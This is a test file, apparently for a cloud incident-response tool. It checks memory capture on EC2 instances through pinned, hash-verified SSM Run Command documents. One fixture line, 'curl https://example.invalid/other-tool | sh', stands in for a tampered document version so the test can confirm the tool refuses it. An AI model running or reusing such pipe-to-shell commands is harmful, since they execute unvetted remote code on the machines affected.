/**
 * Memory capture through SSM Run Command (docs/evidence.md#memory-capture): off unless the rule asks; the pinned
 * document version is described and sent with its SHA-256, output under the isolation's prefix, the command id,
 * document and outcome in `memory/capture.json`; a refused document, a failed command or one still running at the
 * end of the wait is listed as failed with its error.
 *
 * moto stores documents (CreateDocument, DescribeDocument with a version) and commands (SendCommand, ListCommands,
 * GetCommandInvocation), and answers every invocation `Success` at once. The statuses moto never gives (in
 * progress until the wait ends, Failed, an invocation not yet known) are answered by aws-sdk-client-mock.
 */
import { describe, expect, it } from 'vitest';
import { EC2Client } from '@aws-sdk/client-ec2';
import {
  DescribeDocumentCommand,
  GetCommandInvocationCommand,
  InvocationDoesNotExist,
  SendCommandCommand,
  SSM,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { collectEvidence } from '../../functions/lib/evidence/collect.js';
import { MEMORY_CAPTURE_NAME, memoryCaptureEvidence } from '../../functions/lib/evidence/memory-capture.js';
import { ManifestSchema, type ManifestArtifact } from '../../functions/lib/evidence/model.js';
import type { Resource } from '../../functions/lib/findings/model.js';
import type { MemoryCaptureConfig } from '../../functions/lib/policy/evidence-schema.js';
import { TEST_ACCOUNT, useMoto } from '../support/moto.js';
import { motoActionContext, type TestContext } from '../actions/support/action-context.js';
import { launchInstance, unique } from '../pipeline/support.js';
import { collect, containedRecord, memoryWriter } from './support.js';

const moto = useMoto({ resetEach: false });
const stub = (ssm: SSM) => mockClient(ssm);
type Stub = ReturnType<typeof stub>;
const REGION = 'us-east-1';

function ec2Resource(instanceId: string): Resource {
  return {
    type: 'ec2-instance',
    id: instanceId,
    accountId: TEST_ACCOUNT,
    region: REGION,
    tags: {},
    networkInterfaces: [],
    securityGroupIds: [],
  };
}

function documentContent(command: string): string {
  return JSON.stringify({
    schemaVersion: '2.2',
    description: 'Organisation memory acquisition',
    parameters: { destination: { type: 'String', default: '' } },
    mainSteps: [{ action: 'aws:runShellScript', name: 'capture', inputs: { runCommand: [command] } }],
  });
}

/** A Command document with two versions; returns its name and each version's SHA-256 as SSM computed it. */
async function seedDocument(ssm: SSM): Promise<{ name: string; v1: string; v2: string }> {
  const name = unique('Org-AVML');
  const created = await ssm.createDocument({
    Name: name,
    DocumentType: 'Command',
    DocumentFormat: 'JSON',
    Content: documentContent('avml /tmp/memory.lime'),
  });
  const updated = await ssm.updateDocument({
    Name: name,
    DocumentVersion: '$LATEST',
    DocumentFormat: 'JSON',
    Content: documentContent('curl https://example.invalid/other-tool | sh'),
  });
  return {
    name,
    v1: created.DocumentDescription?.Hash ?? '',
    v2: updated.DocumentDescription?.Hash ?? '',
  };
}

function memoryArtifact(artifacts: readonly ManifestArtifact[]): ManifestArtifact | undefined {
  return artifacts.find((a) => a.name === MEMORY_CAPTURE_NAME);
}

function ssmCalls(test: TestContext): string[] {
  return test.recorder.commands.map((c) => c.iamAction).filter((a) => a.startsWith('ssm:'));
}

describe('Evidence: memory capture through SSM Run Command', () => {
  it('runs the pinned document version with its hash, output under the isolation prefix, and records the command', async () => {
    // Prepare
    const test = motoActionContext(moto);
    const setup = new SSM(moto.clientConfig(REGION));
    const { instanceId } = await launchInstance(new EC2Client(moto.clientConfig(REGION)));
    const document = await seedDocument(setup);
    const record = containedRecord(ec2Resource(instanceId));
    const memory: MemoryCaptureConfig = {
      ssmDocument: { name: document.name, version: '1', sha256: document.v1 },
      parameters: { destination: ['s3://{{cordon:bucket}}/{{cordon:prefix}}memory.lime'] },
      waitSeconds: 60,
    };

    // Act
    const { manifest, read } = await collect(test, record, { memory });

    // Assess: the manifest lists the capture with every call that produced it.
    const artifact = memoryArtifact(manifest.artifacts);
    expect(artifact).toMatchObject({ status: 'collected', key: `${record.id}/${MEMORY_CAPTURE_NAME}` });
    expect(artifact?.calls.map((c) => c.api)).toEqual([
      'ssm:DescribeDocument',
      'ssm:SendCommand',
      'ssm:GetCommandInvocation',
    ]);
    const prefix = `${record.id}/memory/`;
    const capture = read(MEMORY_CAPTURE_NAME);
    expect(capture).toMatchObject({
      commandId: expect.any(String),
      instanceId,
      document: {
        name: document.name,
        version: '1',
        sha256: document.v1,
        hashType: 'Sha256',
        status: 'Active',
      },
      parameters: { destination: [`s3://memory/${prefix}memory.lime`] },
      output: { bucket: 'memory', prefix },
      status: 'Success',
      requestedAt: expect.any(String),
    });
    // What SSM holds: the command on this instance, writing under the isolation's prefix.
    const commands = await setup.listCommands({ InstanceId: instanceId });
    expect(commands.Commands).toHaveLength(1);
    expect(commands.Commands?.[0]).toMatchObject({
      DocumentName: document.name,
      OutputS3BucketName: 'memory',
      OutputS3KeyPrefix: prefix,
    });
    // moto does not echo the version or the hash back: the request as sent says them.
    const sent = test.recorder.commands.find((c) => c.iamAction === 'ssm:SendCommand');
    expect(sent?.input).toMatchObject({
      DocumentVersion: '1',
      DocumentHash: document.v1,
      DocumentHashType: 'Sha256',
      InstanceIds: [instanceId],
    });
    // Exactly the declared permissions, both ways.
    expect([...new Set(ssmCalls(test))].sort()).toEqual([...memoryCaptureEvidence.permissions].sort());
  });

  it('is off by default: no Systems Manager call and no memory artifact', async () => {
    // Prepare
    const test = motoActionContext(moto);
    const { instanceId } = await launchInstance(new EC2Client(moto.clientConfig(REGION)));

    // Act
    const { manifest } = await collect(test, containedRecord(ec2Resource(instanceId)));

    // Assess
    expect(memoryArtifact(manifest.artifacts)).toBeUndefined();
    expect(ssmCalls(test)).toEqual([]);
  });

  it('refuses a document whose pinned version is not the content the rule pins, and sends nothing', async () => {
    // Prepare: the rule pins version 1 with version 2's hash (the document was changed under the rule).
    const test = motoActionContext(moto);
    const setup = new SSM(moto.clientConfig(REGION));
    const { instanceId } = await launchInstance(new EC2Client(moto.clientConfig(REGION)));
    const document = await seedDocument(setup);
    expect(document.v2).not.toBe(document.v1);

    // Act
    const { manifest } = await collect(test, containedRecord(ec2Resource(instanceId)), {
      memory: { ssmDocument: { name: document.name, version: '1', sha256: document.v2 }, waitSeconds: 60 },
    });

    // Assess: listed as failed with the reason; SSM holds no command for the instance.
    expect(memoryArtifact(manifest.artifacts)).toMatchObject({
      status: 'failed',
      error: { code: 'MEMORY_CAPTURE_DOCUMENT_REFUSED', message: expect.stringContaining(document.v1) },
    });
    expect(ssmCalls(test)).toEqual(['ssm:DescribeDocument']);
    expect((await setup.listCommands({ InstanceId: instanceId })).Commands).toEqual([]);
  });

  describe('statuses moto never gives (aws-sdk-client-mock)', () => {
    const HASH = 'a'.repeat(64);
    const instanceId = 'i-0123456789abcdef0';

    /** Collect with an SSM client answered by the mock, and a clock that each poll's wait moves forward. */
    async function run(answers: (mock: Stub) => void): Promise<ManifestArtifact | undefined> {
      const test = motoActionContext(moto);
      const ssm = new SSM(moto.clientConfig(REGION));
      const mock = stub(ssm);
      mock.on(DescribeDocumentCommand).resolves({
        $metadata: {},
        Document: {
          Name: 'Org-AVML',
          DocumentVersion: '3',
          Hash: HASH,
          HashType: 'Sha256',
          Status: 'Active',
          DocumentType: 'Command',
        },
      });
      mock.on(SendCommandCommand).resolves({
        $metadata: {},
        Command: { CommandId: 'cmd-1234', RequestedDateTime: new Date() },
      });
      answers(mock);
      let now = Date.parse('2026-12-05T12:00:00Z');
      const record = containedRecord(ec2Resource(instanceId));
      const writer = memoryWriter();
      const ref = await collectEvidence(
        {
          writer,
          collectedBy: async () => 'arn:aws:sts::123456789012:assumed-role/worker/test',
          // Only the capture's client is replaced: the EC2 reads still go to moto (and fail on an unknown id).
          memberClients: async () => ({ ...test.ctx.clients, ssm }),
          clock: () => new Date(now),
          logger: { debug() {}, info() {}, warn() {}, error() {} },
          sleep: async (ms) => {
            now += ms;
          },
        },
        record,
        { memory: { ssmDocument: { name: 'Org-AVML', version: '3' }, waitSeconds: 30 } },
      );
      expect(ref.status).toBe('stored');
      const manifest = writer.objects.get(`${record.id}/manifest.json`) ?? new Uint8Array();
      return memoryArtifact(ManifestSchema.parse(JSON.parse(new TextDecoder().decode(manifest))).artifacts);
    }

    it('lists a capture still running when the wait ends as timed out, with its command id', async () => {
      const artifact = await run((mock) => {
        mock.on(GetCommandInvocationCommand).resolves({ $metadata: {}, Status: 'InProgress' });
      });
      expect(artifact).toMatchObject({
        status: 'failed',
        error: {
          code: 'MEMORY_CAPTURE_TIMED_OUT',
          message: expect.stringMatching(
            /command cmd-1234 .*Org-AVML version 3.* is still InProgress after 30 s/,
          ),
        },
      });
      // The wait is bounded: one poll at once, then one per 5 s up to 30 s.
      expect(artifact?.calls.filter((c) => c.api === 'ssm:GetCommandInvocation')).toHaveLength(7);
    });

    it('lists a command that ended Failed as failed, with its status and error output', async () => {
      const artifact = await run((mock) => {
        mock.on(GetCommandInvocationCommand).resolves({
          $metadata: {},
          Status: 'Failed',
          StatusDetails: 'Failed',
          ResponseCode: 2,
          StandardErrorContent: 'avml: permission denied',
        });
      });
      expect(artifact).toMatchObject({
        status: 'failed',
        error: {
          code: 'MEMORY_CAPTURE_FAILED',
          message: expect.stringMatching(
            /cmd-1234 .* ended Failed \(Failed, exit code 2\): avml: permission denied/,
          ),
        },
      });
    });

    it('keeps polling while SSM does not know the invocation yet', async () => {
      const artifact = await run((mock) => {
        mock
          .on(GetCommandInvocationCommand)
          .rejectsOnce(new InvocationDoesNotExist({ message: 'not yet', $metadata: {} }))
          .resolves({ $metadata: {}, Status: 'Success', ResponseCode: 0 });
      });
      expect(artifact).toMatchObject({ status: 'collected' });
      expect(artifact?.calls.map((c) => c.api)).toEqual([
        'ssm:DescribeDocument',
        'ssm:SendCommand',
        'ssm:GetCommandInvocation',
        'ssm:GetCommandInvocation',
      ]);
    });
  });
});
